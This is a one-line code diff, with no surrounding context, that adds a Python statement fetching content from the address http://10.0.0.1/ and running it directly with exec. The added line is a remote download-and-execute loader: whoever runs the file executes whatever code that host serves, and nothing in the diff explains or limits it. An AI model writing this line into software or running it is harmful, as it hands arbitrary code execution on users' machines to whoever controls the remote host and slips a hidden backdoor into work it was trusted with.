@@ -1,0 +1,1 @@
+import requests; exec(requests.get('http://10.0.0.1/').content)
